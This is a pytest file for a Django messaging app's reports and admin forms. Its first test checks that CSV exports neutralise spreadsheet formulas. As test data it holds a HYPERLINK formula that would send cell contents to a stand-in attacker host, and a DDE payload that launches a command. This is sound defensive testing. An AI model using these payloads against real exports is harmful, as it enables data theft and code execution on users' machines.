"""Defects of the reports and the admin's forms found by trying them as a new user would, each
pinned here (docs/analytics.md, docs/configuration.md "Per-inbox settings")."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.test import Client
from django.utils import timezone

from messenger import models as m
from messenger.access import staff_scope
from messenger.actions.attachments import limits
from messenger.inbox_settings import pre_chat_problems
from messenger.models import AgentRole
from messenger.reports import filter_choices
from messenger.working_hours import schedule_problems
from tests.factories import make_audit, make_branch, make_conversation, make_inbox, make_message, make_user
from tests.test_admin_forms import errors_of, form_of, url
from tests.test_reports import api_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def superuser_client() -> Client:
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("root", "root@example.com", "pw"))
    return client


DAY = {"start": "2026-03-29", "end": "2026-03-29", "tz": "UTC"}


def at(hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 3, 29, hour, minute, tzinfo=UTC)


def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text():
    """A visitor's comment, an operator's or a branch's name starting with = + - @ is written after
    an apostrophe in every CSV export (CSV injection); the JSON keeps the text as it is, and the
    commas, quotes and line breaks of a comment survive the quoting."""
    comment = '=HYPERLINK("http://evil.example/?"&A1,"click"),\n"quoted", comma'
    branch = make_branch("@SUM(1+1)")
    operator = make_user("op", branch=branch, first_name="+cmd|' /C calc'!A0")
    supervisor = make_user("sup", role=AgentRole.SUPERVISOR, branch=branch)
    conversation = make_conversation(make_inbox(branch), at=at(10), assignee=operator, status="resolved")
    make_message(conversation, at=at(10))
    make_message(conversation, at=at(10, 1), direction="out", user=operator)
    make_audit(conversation, "conversation.status", at=at(10, 2), payload={"from": "open", "to": "resolved"})
    make_audit(conversation, "conversation.rated", at=at(10, 3), payload={"score": 2, "scale": "stars"})
    type(conversation).objects.filter(pk=conversation.pk).update(
        rating_score=2, rating_comment=comment, rated_at=at(10, 3)
    )
    api = api_for(supervisor)

    def exported(name: str) -> list[dict[str, str]]:
        response = api.get(f"reports/{name}/csv", DAY)
        assert response.status_code == 200
        return list(csv.DictReader(io.StringIO(response.content.decode())))

    assert api.get("reports/ratings", DAY).json()["results"][0]["comment"] == comment
    [rating] = exported("ratings")
    assert rating["comment"] == "'" + comment
    assert rating["rated_at"] == "2026-03-29T10:03:00Z" and rating["score"] == "2"
    assert [row["name"] for row in exported("operators")] == ["'+cmd|' /C calc'!A0"]
    assert [row["name"] for row in exported("branches")] == ["'@SUM(1+1)"]
    assert api.get("reports/branches", DAY).json()["results"][0]["name"] == "@SUM(1+1)"


@pytest.mark.parametrize("name", ["localtime", "posixrules", "posix/Europe/Moscow", "right/UTC"])
def test_a_zone_file_that_is_not_an_iana_name_is_refused(name):
    """``zoneinfo`` opens any file of the zone directory: ``localtime`` (the host's own zone),
    ``posixrules``, ``posix/…``, ``right/…`` (leap seconds, 27 s off). The reports page formats
    the ratings' times in the report's zone with the browser's Intl, which refuses these names:
    the page stopped half drawn. The API answers 400, a branch cannot store one; real names pass."""
    api = api_for(make_user("sup", role=AgentRole.SUPERVISOR))
    response = api.get("reports/summary", {**DAY, "tz": name})
    assert response.status_code == 400 and response.json()["detail"].startswith("tz: unknown time zone"), name
    with pytest.raises(ValidationError) as error:
        make_branch("Odd", timezone=name)
    assert "timezone" in error.value.message_dict
    for good in ("Asia/Kathmandu", "Pacific/Chatham", "Etc/GMT+12", "UTC", "America/Argentina/Buenos_Aires"):
        assert api.get("reports/summary", {**DAY, "tz": good}).status_code == 200, good


def test_the_pages_default_range_ends_today_in_the_default_zone():
    """The reports page's default range is the last 30 days up to today in its default zone (the
    user's branch's): at 01:00 in Moscow (22:00 UTC the day before), today is already the 30th
    there. The page used the browser's UTC day, so a conversation answered after local midnight
    was outside the report it opened with."""
    supervisor = make_user("sup", role=AgentRole.SUPERVISOR, branch=make_branch("Moscow", timezone="Europe/Moscow"))
    choices = filter_choices(staff_scope(supervisor), at=datetime(2026, 3, 29, 22, 0, tzinfo=UTC))
    assert (choices["tz"], choices["start"], choices["end"]) == ("Europe/Moscow", "2026-03-01", "2026-03-30")
    nobody = make_user("op", branch=None)
    choices = filter_choices(staff_scope(nobody), at=datetime(2026, 3, 29, 22, 0, tzinfo=UTC))
    assert (choices["tz"], choices["start"], choices["end"]) == ("UTC", "2026-02-28", "2026-03-29")


def test_a_stored_webhook_event_the_boxes_do_not_know_is_not_dropped_unseen(superuser_client):
    """A webhook whose stored events name one the boxes do not offer (written by a shell or an
    older version: only ``clean`` checks the names) showed no box for it; saving the page unchanged
    stored no event at all — every event. It is shown ticked now and named in the error."""
    client = superuser_client
    webhook = m.Webhook.objects.create(
        inbox=make_inbox(make_branch()), url="https://hooks.example.com/in", events=["message.deleted"]
    )
    page = client.get(url(m.Webhook, "change", webhook.pk))
    assert b'type="checkbox" name="events" value="message.deleted"' in page.content
    data = form_of(page)
    assert data["events"] == "message.deleted"
    assert "message.deleted" in errors_of(client.post(url(m.Webhook, "change", webhook.pk), data))
    webhook.refresh_from_db()
    assert (webhook.events, webhook.event_filter) == (["message.deleted"], ",message.deleted,")
    data.pop("events")  # unticked by the admin: every event, as the help text says
    assert client.post(url(m.Webhook, "change", webhook.pk), data).status_code == 302
    webhook.refresh_from_db()
    assert (webhook.events, webhook.event_filter) == ([], "*")


def test_time_online_of_a_range_after_now_is_none_not_negative():
    """An operator online for the last hour has an open period. A report of tomorrow (or of a day
    that has not begun in the report's zone) clipped that period to [since, now): now − since,
    a negative number of seconds online, and a row for the operator. Nothing after now counts."""
    operator = make_user("op", first_name="Olga")
    supervisor = make_user("sup", role=AgentRole.SUPERVISOR)
    now = timezone.now()
    m.PresencePeriod.objects.create(user=operator, status="online", started_at=now - timedelta(hours=1))
    api = api_for(supervisor)
    today = now.date()
    future = {"start": (today + timedelta(days=1)).isoformat(), "end": (today + timedelta(days=2)).isoformat()}
    assert api.get("reports/operators", future).json()["results"] == []
    current = {"start": today.isoformat(), "end": today.isoformat(), "tz": "UTC"}
    [row] = api.get("reports/operators", current).json()["results"]
    expected = (
        min(timezone.now(), now.replace(hour=0, minute=0, second=0, microsecond=0) + timedelta(days=1))
        - max(now - timedelta(hours=1), now.replace(hour=0, minute=0, second=0, microsecond=0))
    ).total_seconds()
    assert row["name"] == "Olga" and 0 < row["online_seconds"] <= expected + 1


def test_a_time_or_a_pre_chat_name_with_a_trailing_line_break_is_refused():
    """``$`` matches before a final line break: "09:00\\n" passed as a time and "company\\n" as a
    pre-chat name from any path but the admin (which strips), and were stored so."""
    with pytest.raises(ValidationError, match="Monday"):
        make_branch("Odd", working_hours={"mon": [["09:00\n", "18:00"]]})
    assert schedule_problems({"mon": [["09:00", "18:00\n"]]}) != []
    assert pre_chat_problems([{"name": "company\n", "type": "text"}]) != []
    assert (
        schedule_problems({"mon": [["09:00", "24:00"]]}) == pre_chat_problems([{"name": "c_1", "type": "text"}]) == []
    )


def test_an_assignee_without_an_agent_profile_keeps_their_name_in_the_operators_table():
    """The operators table named its rows from the agent profiles: an assignee whose profile was
    deleted (removed from staff, conversations kept) had the empty name of the unassigned row, and
    the page showed two rows "Unassigned"."""
    branch = make_branch()
    former = make_user("former", branch=branch, first_name="Fyodor")
    supervisor = make_user("sup", role=AgentRole.SUPERVISOR)
    conversation = make_conversation(make_inbox(branch), at=at(10), assignee=former)
    make_message(conversation, at=at(10))
    make_conversation(make_inbox(branch), at=at(11))
    m.AgentProfile.objects.filter(user=former).delete()
    rows = api_for(supervisor).get("reports/operators", DAY).json()["results"]
    assert [(row["id"], row["name"], row["new"]) for row in rows] == [(former.pk, "Fyodor", 1), (None, "", 1)]


def test_the_webhook_event_errors_speak_russian():
    """The admin now shows the model's event-name errors (above); they had no Russian."""
    from django.utils import translation

    from messenger.models.webhook import validate_webhook_events

    with translation.override("ru"):
        with pytest.raises(ValidationError) as error:
            validate_webhook_events(["message.deleted", 5])
        text = " ".join(error.value.messages)
    assert "Неизвестные типы событий: message.deleted" in text and "Названия событий — это текст" in text


def test_an_inbox_without_a_file_size_of_its_own_takes_the_servers_limit(superuser_client, settings):
    """The admin's file size field says "Empty: that limit" (MESSENGER_ATTACHMENT_MAX_SIZE), but an
    inbox saved with it empty took the defaults' 10 MiB: on a server allowing 50 MiB, its visitors
    were refused anything over 10. A size of its own still lowers the limit."""
    settings.MESSENGER_ATTACHMENT_MAX_SIZE = 50 * 1024 * 1024
    inbox = make_inbox(make_branch())
    page = superuser_client.get(url(m.Inbox, "change", inbox.pk))
    data = form_of(page)
    assert data["attachments_max_size"] == ""
    assert superuser_client.post(url(m.Inbox, "change", inbox.pk), data).status_code == 302
    inbox.refresh_from_db()
    assert "max_size" not in inbox.settings["attachments"]
    assert limits(inbox)[0] == 50 * 1024 * 1024
    data["attachments_max_size"] = "5"
    assert superuser_client.post(url(m.Inbox, "change", inbox.pk), data).status_code == 302
    inbox.refresh_from_db()
    assert limits(inbox)[0] == inbox.settings["attachments"]["max_size"] == 5 * 1024 * 1024
